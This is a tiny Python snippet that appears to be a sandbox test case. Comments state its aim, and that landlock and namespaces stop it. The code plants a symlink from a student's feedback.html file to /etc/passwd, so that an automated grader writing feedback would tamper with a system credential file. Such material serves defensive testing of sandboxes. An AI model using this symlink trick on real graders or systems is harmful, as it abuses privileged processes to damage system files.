# aims: a link is planted where the grader will write
# prize: change
# stopped by: landlock, namespaces
import os

os.symlink("/etc/passwd", f"{WORLD}/submitted/zoe/feedback.html")
